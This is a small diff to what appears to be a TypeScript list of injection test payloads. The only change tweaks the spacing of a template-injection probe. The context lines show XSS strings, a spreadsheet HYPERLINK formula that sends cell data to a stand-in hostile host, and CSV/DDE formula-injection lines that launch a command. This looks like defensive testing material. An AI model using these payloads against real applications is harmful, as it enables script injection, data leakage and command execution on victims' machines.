@@ -16,7 +16,7 @@ export const payloads: readonly string[] = [
   `</title></script><script>${hit}</script>`,
   `javascript:${hit}//`,
   `<a href="javascript:${hit}">x</a><iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
-  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
+  `{{7*7}}\${7*7}<%= 7*7%>#{7*7}`,
   `=HYPERLINK("https://${hostileHost}/?"&A1,"Click")`,
   `+cmd|' /C calc'!A0`,
   `-2+3+cmd|' /C calc'!A0`,
